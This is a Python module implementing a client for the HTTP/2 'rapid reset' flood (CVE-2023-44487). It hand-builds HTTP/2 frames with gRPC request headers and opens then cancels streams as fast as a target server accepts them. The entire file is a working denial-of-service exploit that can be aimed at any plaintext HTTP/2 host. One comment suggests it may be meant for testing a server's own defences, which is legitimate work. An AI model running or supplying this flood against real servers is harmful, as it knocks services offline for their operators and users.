"""A client that opens HTTP/2 streams and resets them at once: a rapid-reset flood (CVE-2023-44487).

Frames are written by hand, because no client library sends such. RFC 9113, and RFC 7541 for
headers, of which only literals without index and without Huffman coding are needed.
"""

import asyncio
import contextlib
import struct
from collections import deque

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, _RST_STREAM, SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
ACK = _END_STREAM = 1
END_HEADERS = 4
_CANCEL = 8


class Flood:
    """One connection. Use as a context manager."""

    def __init__(self, address: str, method: str) -> None:
        """Args:
        address: HOST:PORT, plaintext.
        method: the gRPC method to call, `/package.Service/Method`.
        """
        self._host, _, port = address.rpartition(":")
        self._port = int(port)
        self._headers = call_headers(address, method)
        self._next_stream = 1
        self.is_cut_off = False

    async def __aenter__(self) -> "Flood":
        self._reader, self._writer = await asyncio.open_connection(self._host, self._port)
        self._writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        self._reading = asyncio.ensure_future(self._answer())
        return self

    async def __aexit__(self, *_: object) -> None:
        self._writer.close()
        self._reading.cancel()
        with contextlib.suppress(asyncio.CancelledError, OSError):
            await self._reading

    async def open_and_reset(
        self, num_streams: int, *, message: bytes | None = None, num_open: int = 0
    ) -> int:
        """Opens and resets streams as fast as the connection takes them.

        Args:
            message: sent on each, a serialized request; None: the streams send nothing.
            num_open: how many streams stay open while further ones are opened.

        Returns:
            How many, less than asked for if the server ended the connection.
        """
        body = b"" if message is None else struct.pack(">BI", 0, len(message)) + message
        opened: deque[int] = deque()
        for done in range(num_streams):
            if self.is_cut_off:
                return done
            stream = self._next_stream
            self._next_stream += 2
            self._writer.write(frame(HEADERS, END_HEADERS, stream, self._headers))
            if body:
                self._writer.write(frame(DATA, _END_STREAM, stream, body))
            opened.append(stream)
            while len(opened) > (num_open if done + 1 < num_streams else 0):
                reset = struct.pack(">I", _CANCEL)
                self._writer.write(frame(_RST_STREAM, 0, opened.popleft(), reset))
            try:
                await self._writer.drain()
            except OSError:
                return done
            if num_open:
                await asyncio.sleep(0.001)  # lets a server in this process work
        return num_streams

    async def _answer(self) -> None:
        """Acknowledges settings and pings, as an honest client would."""
        try:
            while True:
                header = await self._reader.readexactly(9)
                num_bytes = int.from_bytes(header[:3])
                kind, flags = header[3], header[4]
                payload = await self._reader.readexactly(num_bytes)
                if kind == SETTINGS and not flags & ACK:
                    self._writer.write(frame(SETTINGS, ACK, 0, b""))
                elif kind == _PING and not flags & ACK:
                    self._writer.write(frame(_PING, ACK, 0, payload))
                elif kind == _GOAWAY:
                    self.is_cut_off = True
        except (asyncio.IncompleteReadError, OSError):
            self.is_cut_off = True


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame."""
    return len(payload).to_bytes(3) + struct.pack(">BBI", kind, flags, stream) + payload


def call_headers(address: str, method: str) -> bytes:
    """Of a gRPC call."""
    return _encode(
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", address),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )


def _encode(*headers: tuple[str, str]) -> bytes:
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in headers)


def _string(text: str) -> bytes:
    encoded = text.encode()
    assert len(encoded) < 127, "longer ones are coded otherwise"
    return bytes([len(encoded)]) + encoded
